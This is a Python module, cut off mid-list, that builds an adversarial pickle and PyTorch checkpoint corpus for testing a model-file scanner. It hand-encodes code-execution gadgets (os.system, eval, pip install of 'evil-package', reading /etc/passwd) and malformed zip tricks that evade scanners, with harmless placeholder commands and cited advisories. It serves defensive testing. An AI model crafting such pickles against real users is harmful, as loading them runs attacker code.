"""Adversarial pickle corpus for mlward's pickle / PyTorch scanners.

Everything here is *built* from bytes with a tiny hand-rolled opcode emitter (plus
``pickle.dumps`` of harmless builtin data).  Nothing in this module ever unpickles,
imports a gadget module, or executes a payload; importing it does not require torch
or numpy.

Data model
----------
``Sample.expect`` for a malicious sample is either

* a fully qualified global name the scanner must report, spelled as the unpickler
  would resolve it: Python-2 names are mapped the way ``_compat_pickle`` maps them
  for protocol < 3 (``__builtin__.exec`` -> ``builtins.exec``, ``httplib`` ->
  ``http.client``), but platform aliases are *not* normalised (``posix.system``
  stays ``posix.system``) and dotted attribute chains are kept literally
  (``pathlib.os.system``); or
* a rule hint (see ``RULE_HINTS``) for findings that have no single global name:
  ``expansion``, ``unresolvable-import``, ``truncated``, ``extension-code``,
  ``nested-pickle``, ``module-mutation``, ``scanner-tamper``.

``Sample.min_severity`` is the lowest severity ("high" or "critical") that counts as
a detection.  For benign samples ``expect`` is ``""`` and ``min_severity`` is
``"none"``: a scanner must not report anything at high or above.

``Sample.kind`` says how the bytes are meant to be consumed:

* ``pickle``       - a raw pickle stream (``pickle.load``/``joblib``/legacy readers)
* ``torch-zip``    - a ``torch.save`` zip archive; the pickle is ``<prefix>/data.pkl``
* ``torch-legacy`` - the pre-1.6 ``torch.save`` layout (a sequence of pickles)
* ``torch-tar``    - the even older tar layout read by ``torch.serialization.legacy_load``

``Sample.shape`` records how the stream is meant to parse with ``pickletools.genops``
(used by the sanity test): ``clean`` (one pickle, ends exactly at STOP), ``multi``
(several pickles back to back), ``trailing`` (one pickle then non-pickle bytes),
``broken`` (genops fails: payload first, garbage/truncation after), ``container``.

What torch's zip reader accepts (researched, see ``zip_checkpoint``)
--------------------------------------------------------------------
``torch.load`` only takes the zip path if the file *starts* with ``PK\\x03\\x04``
(``torch.serialization._is_zipfile``); anything else goes to the legacy loader,
which ``pickle.load``s from offset 0.  The zip is then read by
``caffe2::serialize::PyTorchStreamReader`` on top of a vendored miniz
(``third_party/miniz-3.0.2``), built with ``-DMINIZ_DISABLE_ZIP_READER_CRC32_CHECKS``
(``cmake/Dependencies.cmake``).  Consequences, compared with CPython ``zipfile``:

* CRC-32 mismatches are ignored by torch; ``zipfile`` raises ``BadZipFile`` on read.
* The local-header file name is never compared with the central-directory name
  (miniz only uses the local name/extra *lengths* to skip to the data); ``zipfile``
  raises ``BadZipFile("File name in directory ... and header ... differ")``.
* Sizes, CRC, method and flags all come from the central directory.  Local-header
  sizes/CRC/flags are ignored by both readers, so zeroed local sizes (with or
  without the data-descriptor bit 0x08) load fine in both - but break scanners
  that walk local headers.
* Central flag bits 0x01 (encrypted), 0x20 (patched), 0x40 (strong encryption) make
  miniz >= 2.1 refuse extraction (``MZ_ZIP_UNSUPPORTED_ENCRYPTION``); bit 0x2000
  makes ``mz_zip_reader_init`` fail.  (Older miniz builds only checked 0x01|0x20.)
  ``zipfile`` refuses the same central bits.  The same bits set only in the local
  header are ignored by both.
* Only stored (0) and deflate (8) are supported; a stored entry must have
  comp_size == uncomp_size in the central directory.
* Name lookup (``mz_zip_reader_locate_file`` with flags 0) is a binary search over
  the sorted central directory using a *case-insensitive* comparison, so
  ``archive/DATA.PKL`` satisfies ``getRecord("data.pkl")``; with duplicate names the
  entry found is whichever the binary search lands on.  ``zipfile`` is
  case-sensitive and ``getinfo`` returns the *last* duplicate.
* The record prefix ("archive") is whatever precedes the first ``/`` of central
  directory entry #0; it need not be ``archive``.  Since ``torch.load`` calls
  ``get_all_records()`` (TorchScript detection), current torch requires every entry
  to share that prefix.  A ``version`` or ``.data/version`` record must exist.
"""

from __future__ import annotations

import base64
import io
import pickle
import struct
import tarfile
import zlib
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from typing import Self

__all__ = [
    "BENIGN",
    "MALICIOUS",
    "RULE_HINTS",
    "ZIP_TRICKS",
    "New",
    "PickleBuilder",
    "Sample",
    "build_benign",
    "build_malicious",
    "call_pickle",
    "legacy_torch_file",
    "legacy_torch_tar",
    "zip_checkpoint",
]

RULE_HINTS = frozenset(
    {
        "expansion",
        "unresolvable-import",
        "truncated",
        "extension-code",
        "nested-pickle",
        "module-mutation",
        "scanner-tamper",
    }
)

PICKLESCAN = "https://github.com/mmaitre314/picklescan"
PS_ADV = PICKLESCAN + "/security/advisories/"
PS_TESTS = PICKLESCAN + "/blob/main/tests/"
FICKLING_ADV = "https://github.com/trailofbits/fickling/security/advisories/"
MODELSCAN_ISSUES = "https://github.com/protectai/modelscan/issues/"
NULLIFAI = (
    "https://www.reversinglabs.com/blog/rl-identifies-malware-ml-model-hosted-on-hugging-face"
)
JFROG = "https://jfrog.com/blog/unveiling-3-zero-day-vulnerabilities-in-picklescan/"
SOUR_PICKLES = (
    "https://sensepost.com/cms/resources/conferences/2011/sour_pickles/"
    "BH_US_11_Slaviero_Sour_Pickles.pdf"
)
MLWARD = "mlward"


@dataclass(frozen=True)
class Sample:
    id: str
    data: bytes
    description: str
    source: str
    expect: str
    min_severity: str = "high"
    kind: str = "pickle"
    shape: str = "clean"
    # For containers: the embedded pickle that carries the finding (empty otherwise).
    inner: bytes = b""


# --------------------------------------------------------------------------- opcodes

MARK = b"("
STOP = b"."
POP = b"0"
POP_MARK = b"1"
DUP = b"2"
INT = b"I"
BININT = b"J"
BININT1 = b"K"
BININT2 = b"M"
NONE = b"N"
BINPERSID = b"Q"
REDUCE = b"R"
STRING = b"S"
BINSTRING = b"T"
SHORT_BINSTRING = b"U"
UNICODE = b"V"
BINUNICODE = b"X"
APPEND = b"a"
BUILD = b"b"
GLOBAL = b"c"
DICT = b"d"
EMPTY_DICT = b"}"
APPENDS = b"e"
GET = b"g"
BINGET = b"h"
INST = b"i"
LONG_BINGET = b"j"
LIST = b"l"
EMPTY_LIST = b"]"
OBJ = b"o"
PUT = b"p"
BINPUT = b"q"
LONG_BINPUT = b"r"
SETITEM = b"s"
TUPLE = b"t"
EMPTY_TUPLE = b")"
SETITEMS = b"u"
PROTO = b"\x80"
NEWOBJ = b"\x81"
EXT1 = b"\x82"
EXT2 = b"\x83"
EXT4 = b"\x84"
TUPLE1 = b"\x85"
TUPLE2 = b"\x86"
TUPLE3 = b"\x87"
NEWTRUE = b"\x88"
NEWFALSE = b"\x89"
LONG1 = b"\x8a"
BINBYTES = b"B"
SHORT_BINBYTES = b"C"
SHORT_BINUNICODE = b"\x8c"
BINUNICODE8 = b"\x8d"
BINBYTES8 = b"\x8e"
EMPTY_SET = b"\x8f"
NEWOBJ_EX = b"\x92"
STACK_GLOBAL = b"\x93"
MEMOIZE = b"\x94"
FRAME = b"\x95"
BYTEARRAY8 = b"\x96"


class PickleBuilder:
    """Minimal fluent pickle opcode emitter.  Method names follow the opcode names."""

    def __init__(self) -> None:
        self._buf = bytearray()

    def getvalue(self) -> bytes:
        return bytes(self._buf)

    def raw(self, data: bytes) -> Self:
        self._buf += data
        return self

    # -- framing / control
    def proto(self, version: int) -> Self:
        return self.raw(PROTO + struct.pack("<B", version))

    def frame(self, length: int) -> Self:
        return self.raw(FRAME + struct.pack("<Q", length))

    def stop(self) -> Self:
        return self.raw(STOP)

    def mark(self) -> Self:
        return self.raw(MARK)

    def pop(self) -> Self:
        return self.raw(POP)

    def pop_mark(self) -> Self:
        return self.raw(POP_MARK)

    def dup(self) -> Self:
        return self.raw(DUP)

    # -- imports and calls
    def global_(self, module: str, name: str) -> Self:
        return self.raw(GLOBAL + f"{module}\n{name}\n".encode())

    def inst(self, module: str, name: str) -> Self:
        return self.raw(INST + f"{module}\n{name}\n".encode())

    def stack_global(self) -> Self:
        return self.raw(STACK_GLOBAL)

    def reduce(self) -> Self:
        return self.raw(REDUCE)

    def build(self) -> Self:
        return self.raw(BUILD)

    def obj(self) -> Self:
        return self.raw(OBJ)

    def newobj(self) -> Self:
        return self.raw(NEWOBJ)

    def newobj_ex(self) -> Self:
        return self.raw(NEWOBJ_EX)

    def binpersid(self) -> Self:
        return self.raw(BINPERSID)

    def ext1(self, code: int) -> Self:
        return self.raw(EXT1 + struct.pack("<B", code))

    def ext2(self, code: int) -> Self:
        return self.raw(EXT2 + struct.pack("<H", code))

    def ext4(self, code: int) -> Self:
        return self.raw(EXT4 + struct.pack("<i", code))

    # -- constants
    def none(self) -> Self:
        return self.raw(NONE)

    def bool_(self, value: bool) -> Self:
        return self.raw(NEWTRUE if value else NEWFALSE)

    def int_(self, value: int) -> Self:
        """Protocol-0 text integer."""
        return self.raw(INT + str(value).encode() + b"\n")

    def binint(self, value: int) -> Self:
        if 0 <= value < 256:
            return self.raw(BININT1 + struct.pack("<B", value))
        if 0 <= value < 65536:
            return self.raw(BININT2 + struct.pack("<H", value))
        if -(2**31) <= value < 2**31:
            return self.raw(BININT + struct.pack("<i", value))
        return self.long1(value)

    def long1(self, value: int) -> Self:
        nbytes = (value.bit_length() + 8) // 8 if value else 0
        data = value.to_bytes(nbytes, "little", signed=True) if nbytes else b""
        return self.raw(LONG1 + struct.pack("<B", len(data)) + data)

    def unicode(self, text: str) -> Self:
        """Protocol-0 ``V`` opcode; the argument is raw-unicode-escape encoded."""
        return self.raw(UNICODE + text.encode("raw-unicode-escape") + b"\n")

    def unicode_escaped(self, escaped: bytes) -> Self:
        """``V`` opcode with caller-provided raw-unicode-escape bytes (e.g. ``\\u006f``)."""
        return self.raw(UNICODE + escaped + b"\n")

    def string(self, quoted: bytes) -> Self:
        """Protocol-0 ``S`` opcode; ``quoted`` includes the quotes, e.g. ``b"'os'"``."""
        return self.raw(STRING + quoted + b"\n")

    def short_binstring(self, data: bytes) -> Self:
        return self.raw(SHORT_BINSTRING + struct.pack("<B", len(data)) + data)

    def binstring(self, data: bytes) -> Self:
        return self.raw(BINSTRING + struct.pack("<i", len(data)) + data)

    def short_binunicode(self, text: str) -> Self:
        data = text.encode("utf-8", "surrogatepass")
        return self.raw(SHORT_BINUNICODE + struct.pack("<B", len(data)) + data)

    def binunicode(self, text: str) -> Self:
        data = text.encode("utf-8", "surrogatepass")
        return self.raw(BINUNICODE + struct.pack("<I", len(data)) + data)

    def binunicode8(self, text: str) -> Self:
        data = text.encode("utf-8", "surrogatepass")
        return self.raw(BINUNICODE8 + struct.pack("<Q", len(data)) + data)

    def str_(self, text: str) -> Self:
        if len(text.encode("utf-8", "surrogatepass")) < 256:
            return self.short_binunicode(text)
        return self.binunicode(text)

    def short_binbytes(self, data: bytes) -> Self:
        return self.raw(SHORT_BINBYTES + struct.pack("<B", len(data)) + data)

    def binbytes(self, data: bytes) -> Self:
        return self.raw(BINBYTES + struct.pack("<I", len(data)) + data)

    def bytes_(self, data: bytes) -> Self:
        return self.short_binbytes(data) if len(data) < 256 else self.binbytes(data)

    def bytearray8(self, data: bytes) -> Self:
        return self.raw(BYTEARRAY8 + struct.pack("<Q", len(data)) + data)

    # -- containers
    def tuple_(self) -> Self:
        return self.raw(TUPLE)

    def empty_tuple(self) -> Self:
        return self.raw(EMPTY_TUPLE)

    def tuple1(self) -> Self:
        return self.raw(TUPLE1)

    def tuple2(self) -> Self:
        return self.raw(TUPLE2)

    def tuple3(self) -> Self:
        return self.raw(TUPLE3)

    def list_(self) -> Self:
        return self.raw(LIST)

    def empty_list(self) -> Self:
        return self.raw(EMPTY_LIST)

    def append(self) -> Self:
        return self.raw(APPEND)

    def appends(self) -> Self:
        return self.raw(APPENDS)

    def dict_(self) -> Self:
        return self.raw(DICT)

    def empty_dict(self) -> Self:
        return self.raw(EMPTY_DICT)

    def setitem(self) -> Self:
        return self.raw(SETITEM)

    def setitems(self) -> Self:
        return self.raw(SETITEMS)

    # -- memo
    def memoize(self) -> Self:
        return self.raw(MEMOIZE)

    def put(self, index: int) -> Self:
        return self.raw(PUT + str(index).encode() + b"\n")

    def binput(self, index: int) -> Self:
        return self.raw(BINPUT + struct.pack("<B", index))

    def long_binput(self, index: int) -> Self:
        return self.raw(LONG_BINPUT + struct.pack("<I", index))

    def get(self, index: int) -> Self:
        return self.raw(GET + str(index).encode() + b"\n")

    def binget(self, index: int) -> Self:
        return self.raw(BINGET + struct.pack("<B", index))

    def long_binget(self, index: int) -> Self:
        return self.raw(LONG_BINGET + struct.pack("<I", index))

    # -- convenience
    def push(self, value: Value) -> Self:
        """Push a constant with protocol >= 2 opcodes (tuples/lists/dicts recurse)."""
        if value is None:
            return self.none()
        if isinstance(value, bool):
            return self.bool_(value)
        if isinstance(value, int):
            return self.binint(value)
        if isinstance(value, str):
            return self.str_(value)
        if isinstance(value, bytes):
            return self.bytes_(value)
        if isinstance(value, New):
            return self.stack_import(value.module, value.name).call_args(value.args).reduce()
        if isinstance(value, tuple):
            return self.call_args(value)
        if isinstance(value, list):
            self.empty_list()
            if value:
                self.mark()
                for item in value:
                    self.push(item)
                self.appends()
            return self
        if isinstance(value, dict):
            self.empty_dict()
            if value:
                self.mark()
                for key, item in value.items():
                    self.push(key)
                    self.push(item)
                self.setitems()
            return self
        raise TypeError(f"cannot push {type(value).__name__}")

    def push_text(self, value: str | int) -> Self:
        """Push a constant with protocol-0 text opcodes."""
        if isinstance(value, int):
            return self.int_(value)
        return self.unicode(value)

    def stack_import(self, module: str, name: str) -> Self:
        """Protocol-4 style import: two strings, each memoized, then STACK_GLOBAL."""
        return self.str_(module).memoize().str_(name).memoize().stack_global().memoize()

    def call_args(self, args: Sequence[Value]) -> Self:
        """Push ``args`` as one tuple (TUPLE1/2/3, or MARK ... TUPLE when longer)."""
        if not args:
            return self.empty_tuple()
        if len(args) <= 3:
            for arg in args:
                self.push(arg)
            return self.raw((TUPLE1, TUPLE2, TUPLE3)[len(args) - 1])
        self.mark()
        for arg in args:
            self.push(arg)
        return self.tuple_()


@dataclass(frozen=True)
class New:
    """A value that is ``module.name(*args)`` at load time (emitted as import+REDUCE)."""

    module: str
    name: str
    args: tuple[Value, ...] = ()


Value = (
    None | bool | int | str | bytes | tuple["Value", ...] | list["Value"] | dict[str, "Value"] | New
)


def framed(body: bytes, protocol: int = 4) -> bytes:
    """``PROTO n`` + one FRAME covering ``body`` (which must end with STOP)."""
    return PROTO + struct.pack("<B", protocol) + FRAME + struct.pack("<Q", len(body)) + body


def call_pickle(module: str, name: str, *args: Value, protocol: int = 4) -> bytes:
    """A pickle whose load calls ``module.name(*args)`` via REDUCE.

    protocol 4: framed STACK_GLOBAL with memoized strings (what ``pickle.dumps`` emits).
    protocol 2/3: ``GLOBAL`` + ``BINPUT``.  protocol 0: text opcodes only.
    """
    if protocol >= 4:
        body = PickleBuilder().stack_import(module, name).call_args(args).reduce().memoize()
        return framed(body.stop().getvalue(), protocol)
    if protocol >= 2:
        b = PickleBuilder().proto(protocol).global_(module, name).binput(0)
        return b.call_args(args).reduce().binput(1).stop().getvalue()
    b = PickleBuilder().global_(module, name).put(0).mark()
    for arg in args:
        if not isinstance(arg, str | int) or isinstance(arg, bool):
            raise TypeError("protocol 0 helper only takes str/int arguments")
        b.push_text(arg)
    return b.tuple_().reduce().put(1).stop().getvalue()


# ---------------------------------------------------------------- container builders

ZIP_TRICKS = frozenset(
    {
        "bad_crc",  # CRC-32 wrong in local + central headers (torch: ok, zipfile: BadZipFile)
        "local_name_mismatch",  # local header name differs (torch: ok, zipfile: BadZipFile)
        "data_descriptor",  # bit 0x08, zero local crc/sizes, descriptor after data (both ok)
        "local_sizes_zero",  # zero local crc/sizes without bit 0x08 (both ok)
        "local_flag_bits",  # bits 0x01|0x40 in the local header only (both ok)
        "central_encrypted",  # bit 0x01 in both headers (torch and zipfile refuse)
        "uppercase_name",  # member stored as DATA.PKL (torch finds it, zipfile lookup fails)
        "deflate",  # compression method 8 (both ok)
        "no_alignment",  # omit torch's 64-byte 'FB' alignment extra field (both ok)
    }
)

_DOS_TIME = 0
_DOS_DATE = (0 << 9) | (1 << 5) | 1  # 1980-01-01, fixed for determinism
_ALIGN = 64


@dataclass(frozen=True)
class _Member:
    name: str
    data: bytes


def _swap_dot(name: bytes) -> bytes:
    """Same-length different name, as in Sonatype's PoC: ``data.pkl`` -> ``datap.kl``."""
    idx = name.rfind(b".")
    if 0 < idx < len(name) - 1:
        return name[:idx] + name[idx + 1 : idx + 2] + b"." + name[idx + 2 :]
    return name[:-1] + b"_"


def _zip_bytes(
    members: Sequence[_Member], *, tricks: Iterable[str] = (), trick_member: str = ""
) -> bytes:
    """Hand-written zip writer so that every header field can be made inconsistent."""
    tricks = frozenset(tricks)
    unknown = tricks - ZIP_TRICKS
    if unknown:
        raise ValueError(f"unknown zip tricks: {sorted(unknown)}")
    out = bytearray()
    central = bytearray()
    for member in members:
        targeted = member.name == trick_member
        t = tricks if targeted else frozenset()
        name = member.name
        if "uppercase_name" in t:
            prefix, _, base = name.rpartition("/")
            name = f"{prefix}/{base.upper()}" if prefix else base.upper()
        name_b = name.encode()
        local_name_b = name_b
        if "local_name_mismatch" in t:
            local_name_b = _swap_dot(name_b)
        data = member.data
        crc = zlib.crc32(data) & 0xFFFFFFFF
        if "bad_crc" in t:
            crc ^= 0xFFFFFFFF
        method = 0
        payload = data
        if "deflate" in t:
            method = 8
            comp = zlib.compressobj(9, zlib.DEFLATED, -15)
            payload = comp.compress(data) + comp.flush()
        flags = 0
        local_flags = 0
        if "data_descriptor" in t:
            flags |= 0x08
            local_flags |= 0x08
        if "local_flag_bits" in t:
            local_flags |= 0x01 | 0x40
        if "central_encrypted" in t:
            flags |= 0x01
            local_flags |= 0x01
        extra = b""
        offset = len(out)
        if "no_alignment" not in t and method == 0:
            # torch's PyTorchStreamWriter pads with an extra field 'FB' so that the
            # record data starts on a 64-byte boundary.
            start = offset + 30 + len(local_name_b) + 4
            pad = (-start) % _ALIGN
            extra = b"FB" + struct.pack("<H", pad) + b"Z" * pad
        zero_local = "data_descriptor" in t or "local_sizes_zero" in t
        l_crc, l_csize, l_usize = (0, 0, 0) if zero_local else (crc, len(payload), len(data))
        out += struct.pack(
            "<IHHHHHIIIHH",
            0x04034B50,
            20,
            local_flags,
            method,
            _DOS_TIME,
            _DOS_DATE,
            l_crc,
            l_csize,
            l_usize,
            len(local_name_b),
            len(extra),
        )
        out += local_name_b + extra + payload
        if "data_descriptor" in t:
            out += struct.pack("<IIII", 0x08074B50, crc, len(payload), len(data))
        central += struct.pack(
            "<IHHHHHHIIIHHHHHII",
            0x02014B50,
            20,
            20,
            flags,
            method,
            _DOS_TIME,
            _DOS_DATE,
            crc,
            len(payload),
            len(data),
            len(name_b),
            0,
            0,
            0,
            0,
            0,
            offset,
        )
        central += name_b
    cd_offset = len(out)
    out += central
    out += struct.pack(
        "<IHHHHIIH",
        0x06054B50,
        0,
        0,
        len(members),
        len(members),
        len(central),
        cd_offset,
        0,
    )
    return bytes(out)


def zip_checkpoint(
    pickle_bytes: bytes,
    *,
    folder: str = "archive",
    member_name: str = "data.pkl",
    tricks: Iterable[str] = (),
    decoy: bytes | None = None,
) -> bytes:
    """A ``torch.save``-style zip: ``<folder>/data.pkl``, ``byteorder``, ``version``.

    ``tricks`` (see ``ZIP_TRICKS``) are applied to the pickle member only.  ``decoy``
    adds a *second* member with the same name placed before the real one (duplicate
    names: ``zipfile.getinfo`` returns the last one, miniz's binary search may return
    either, a scanner must scan both).
    """
    pkl_name = f"{folder}/{member_name}"
    members: list[_Member] = []
    if decoy is not None:
        members.append(_Member(pkl_name, decoy))
    members.append(_Member(pkl_name, pickle_bytes))
    members.append(_Member(f"{folder}/byteorder", b"little"))
    members.append(_Member(f"{folder}/version", b"3\n"))
    members.append(_Member(f"{folder}/.data/serialization_id", b"0123456789012345678901234567890"))
    return _zip_bytes(members, tricks=tricks, trick_member=pkl_name)


_MAGIC_NUMBER = 0x1950A86A20F9469CFC6C
_PROTOCOL_VERSION = 1001
_SYS_INFO = {
    "protocol_version": _PROTOCOL_VERSION,
    "little_endian": True,
    "type_sizes": {"short": 2, "int": 4, "long": 4},
}


def legacy_torch_file(main_pickle: bytes, *, magic_pickle: bytes | None = None) -> bytes:
    """Pre-1.6 ``torch.save`` layout: magic, protocol, sys_info, main, storage keys.

    ``torch.serialization._legacy_load`` unpickles each of these in order with the
    full ``pickle`` module (unless ``weights_only``), so a payload in *any* of them runs.
    """
    magic = magic_pickle if magic_pickle is not None else pickle.dumps(_MAGIC_NUMBER, 2)
    return b"".join(
        [
            magic,
            pickle.dumps(_PROTOCOL_VERSION, 2),
            pickle.dumps(_SYS_INFO, 2),
            main_pickle,
            pickle.dumps([], 2),
        ]
    )


def legacy_torch_tar(storages_pickle: bytes) -> bytes:
    """Oldest torch layout: an uncompressed tar read by ``legacy_load``.

    ``legacy_load`` extracts the ``storages`` member first and ``pickle.load``s it,
    then ``tensors`` and ``pickle``.  Deterministic (mtime/uid/gid zeroed).
    """
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w", format=tarfile.USTAR_FORMAT) as tar:
        for name, data in (
            ("sys_info", pickle.dumps(_SYS_INFO, 2)),
            ("storages", storages_pickle),
            ("tensors", pickle.dumps(0, 2)),
            ("pickle", pickle.dumps({}, 2)),
        ):
            info = tarfile.TarInfo(name)
            info.size = len(data)
            info.mtime = 0
            info.mode = 0o644
            tar.addfile(info, io.BytesIO(data))
    return buf.getvalue()


# ------------------------------------------------------------------- sample helpers

CMD = "id"
PY_PAYLOAD = "__import__('os').system('id')"


def _os_system_p4() -> bytes:
    return call_pickle("os", "system", CMD)


def _gadget(
    sid: str,
    module: str,
    name: str,
    args: Sequence[Value],
    source: str,
    description: str,
    *,
    severity: str = "critical",
    expect: str | None = None,
) -> Sample:
    return Sample(
        id=sid,
        data=call_pickle(module, name, *args),
        description=description,
        source=source,
        expect=expect if expect is not None else f"{module}.{name}",
        min_severity=severity,
    )


def _gadget_samples() -> list[Sample]:
    """Library functions published as scanner bypasses (one STACK_GLOBAL+REDUCE each)."""
    g = _gadget
    return [
        g(
            "builtins_eval_p4",
            "builtins",
            "eval",
            (PY_PAYLOAD,),
            PS_TESTS + "data/malicious1_v4.pkl",
            "Plain builtins.eval via STACK_GLOBAL/REDUCE (protocol 4, framed).",
        ),
        g(
            "os_system_p4",
            "os",
            "system",
            (CMD,),
            PS_TESTS + "data2/malicious23.pkl",
            "Plain os.system via STACK_GLOBAL/REDUCE.",
        ),
        g(
            "subprocess_run",
            "subprocess",
            "run",
            (["id"],),
            PS_TESTS + "data/malicious8.pkl",
            "subprocess.run with an argv list.",
        ),
        g(
            "pty_spawn",
            "pty",
            "spawn",
            (["/bin/sh", "-c", CMD],),
            PS_ADV + "GHSA-vqmv-47xg-9wpr",
            "pty.spawn runs a command (also fickling GHSA-r7v6-mfhq-g3m2).",
        ),
        g(
            "runpy_run_code",
            "runpy",
            "_run_code",
            ("import os", {}),
            PS_TESTS + "data/malicious14.pkl",
            "runpy._run_code execs source.",
        ),
        g(
            "cprofile_run",
            "cProfile",
            "run",
            (PY_PAYLOAD,),
            PS_ADV + "GHSA-49gj-c84q-6qm9",
            "cProfile.run execs its statement (also fickling GHSA-p523-jq9w-64x9).",
        ),
        g(
            "profile_run",
            "profile",
            "run",
            (PY_PAYLOAD,),
            PS_ADV + "GHSA-7wx9-6375-f5wh",
            "profile.run execs its statement.",
        ),
        g(
            "timeit_timeit",
            "timeit",
            "timeit",
            ("", PY_PAYLOAD),
            PS_TESTS + "data2/malicious21.pkl",
            "timeit.timeit compiles and runs its setup string.",
        ),
        g(
            "pdb_run",
            "pdb",
            "run",
            (PY_PAYLOAD,),
            "https://github.com/mmaitre314/picklescan/pull/29",
            "pdb.run execs a statement under the debugger.",
        ),
        g(
            "trace_trace_run",
            "trace",
            "Trace.run",
            ({}, PY_PAYLOAD),
            PS_ADV + "GHSA-5qwp-399c-mjwf",
            "Unbound method via dotted protocol-4 name: trace.Trace.run(self={}, cmd).",
        ),
        g(
            "code_interactive_runcode",
            "code",
            "InteractiveInterpreter.runcode",
            ({}, PY_PAYLOAD),
            PS_ADV + "GHSA-cj3c-v495-4xqh",
            "code.InteractiveInterpreter.runcode with a dict as self.",
        ),
        g(
            "idlelib_pyshell_runcode",
            "idlelib.pyshell",
            "ModifiedInterpreter.runcode",
            ({}, PY_PAYLOAD),
            PS_ADV + "GHSA-3gf5-cxq9-w223",
            "idlelib ModifiedInterpreter.runcode.",
        ),
        g(
            "idlelib_calltip_get_entity",
            "idlelib.calltip",
            "get_entity",
            (PY_PAYLOAD,),
            PS_ADV + "GHSA-9xph-j2h6-g47v",
            "idlelib.calltip.get_entity evals its argument.",
        ),
        g(
            "doctest_debug_script",
            "doctest",
            "debug_script",
            (PY_PAYLOAD, True),
            PS_ADV + "GHSA-fqq6-7vqf-w3fg",
            "doctest.debug_script execs source.",
        ),
        g(
            "lib2to3_pgen_make_label",
            "lib2to3.pgen2.pgen",
            "ParserGenerator.make_label",
            (None, {}, '""+' + PY_PAYLOAD),
            PS_ADV + "GHSA-p9w7-82w4-7q8m",
            "lib2to3 ParserGenerator.make_label evals a label.",
        ),
        g(
            "ensurepip_run_pip",
            "ensurepip",
            "_run_pip",
            (["install", "evil-package"],),
            PS_ADV + "GHSA-xp4f-hrf8-rxw7",
            "ensurepip._run_pip runs pip in-process.",
        ),
        g(
            "pip_main",
            "pip",
            "main",
            (["install", "evil-package", "-q"],),
            "https://nvd.nist.gov/vuln/detail/CVE-2025-1716",
            "pip.main installs an attacker package (CVE-2025-1716).",
        ),
        g(
            "venv_create",
            "venv",
            "create",
            ("venv", False, False, True, False, "$(id)"),
            PS_TESTS + "data/malicious20.pkl",
            "venv.create with a prompt that reaches a shell.",
        ),
        g(
            "pydoc_pipepager",
            "pydoc",
            "pipepager",
            ("", CMD),
            PS_TESTS + "data/malicious18.pkl",
            "pydoc.pipepager runs the pager command through a shell.",
        ),
        g(
            "numpy_runstring",
            "numpy.testing._private.utils",
            "runstring",
            (PY_PAYLOAD, {}),
            PS_TESTS + "data2/malicious22.pkl",
            "numpy.testing._private.utils.runstring == exec.",
        ),
        g(
            "numpy_f2py_getlincoef",
            "numpy.f2py.crackfortran",
            "getlincoef",
            (PY_PAYLOAD, []),
            PS_ADV + "GHSA-r8g5-cgf2-4m4m",
            "numpy.f2py.crackfortran.getlincoef evals its input.",
        ),
        g(
            "torch_inductor_compile_file",
            "torch._inductor.codecache",
            "compile_file",
            ("", "", ["sh", "-c", CMD]),
            PS_TESTS + "data/malicious17.pkl",
            "torch._inductor.codecache.compile_file runs an arbitrary compiler argv.",
        ),
        g(
            "torch_config_module_load_config",
            "torch.utils._config_module",
            "ConfigModule.load_config",
            ({}, b"\x80\x04N."),
            PS_ADV + "GHSA-vv6j-3g6g-2pvj",
            "ConfigModule.load_config unpickles its bytes argument (pickle inside a pickle).",
        ),
        g(
            "torch_jit_execwrapper",
            "torch.jit.unsupported_tensor_ops",
            "execWrapper",
            (PY_PAYLOAD, {}, {}),
            PS_ADV + "GHSA-vr7h-p6mm-wpmh",
            "torch.jit.unsupported_tensor_ops.execWrapper == exec.",
        ),
        g(
            "torch_fx_evaluate_guards",
            "torch.fx.experimental.symbolic_shapes",
            "ShapeEnv.evaluate_guards_expression",
            ({}, PY_PAYLOAD, []),
            PS_ADV + "GHSA-f4x7-rfwp-v3xw",
            "ShapeEnv.evaluate_guards_expression evals code.",
        ),
        g(
            "torch_collect_env_run",
            "torch.utils.collect_env",
            "run",
            (CMD,),
            PS_ADV + "GHSA-f745-w6jp-hpxx",
            "torch.utils.collect_env.run runs a shell command.",
        ),
        g(
            "torch_bottleneck_run_cprofile",
            "torch.utils.bottleneck.__main__",
            "run_cprofile",
            (PY_PAYLOAD, {}),
            PS_ADV + "GHSA-4r9r-ch6f-vxmx",
            "torch.utils.bottleneck.__main__.run_cprofile execs code.",
        ),
        g(
            "torch_dynamo_guardbuilder_get",
            "torch._dynamo.guards",
            "GuardBuilder.get",
            ({}, PY_PAYLOAD),
            PS_ADV + "GHSA-86cj-95qr-2p4f",
            "GuardBuilder.get evals a name.",
        ),
        g(
            "asyncio_unix_subprocess_start",
            "asyncio.unix_events",
            "_UnixSubprocessTransport._start",
            ({}, CMD, True, None, None, None, 0),
            PS_ADV + "GHSA-q77w-mwjj-7mqx",
            "Submodule of a blocked package (asyncio.*) with a private method; see also "
            "GHSA-f7qq-56ww-84cr and JFrog CVE-2025-10157.",
        ),
        g(
            "uuid_get_command_stdout",
            "uuid",
            "_get_command_stdout",
            (CMD,),
            PS_ADV + "GHSA-g38g-8gr9-h9xp",
            "uuid._get_command_stdout runs subprocess.Popen.",
        ),
        g(
            "osx_support_read_output",
            "_osx_support",
            "_read_output",
            (CMD,),
            PS_ADV + "GHSA-g38g-8gr9-h9xp",
            "_osx_support._read_output runs a shell command.",
        ),
        g(
            "aix_support_read_cmd_output",
            "_aix_support",
            "_read_cmd_output",
            (CMD,),
            PS_ADV + "GHSA-g38g-8gr9-h9xp",
            "_aix_support._read_cmd_output runs os.system.",
        ),
        g(
            "imaplib_imap4_stream",
            "imaplib",
            "IMAP4_stream",
            (CMD,),
            PS_ADV + "GHSA-g38g-8gr9-h9xp",
            "imaplib.IMAP4_stream spawns a shell command.",
        ),
        g(
            "test_support_assert_python_ok",
            "test.support.script_helper",
            "assert_python_ok",
            ("-c", PY_PAYLOAD),
            PS_ADV + "GHSA-g38g-8gr9-h9xp",
            "CPython test helper that spawns a Python subprocess.",
        ),
        g(
            "ctypes_cdll",
            "ctypes",
            "CDLL",
            ("libc.so.6",),
            PS_ADV + "GHSA-4675-36f9-wf6r",
            "ctypes.CDLL loads a shared library (runs its constructors).",
        ),
        g(
            "distutils_write_file",
            "distutils.file_util",
            "write_file",
            ("/tmp/pwned.env", ["x"]),
            PS_ADV + "GHSA-m273-6v24-x4m4",
            "Arbitrary file write.",
            severity="high",
        ),
        g(
            "io_fileio",
            "_io",
            "FileIO",
            ("/etc/passwd", "r"),
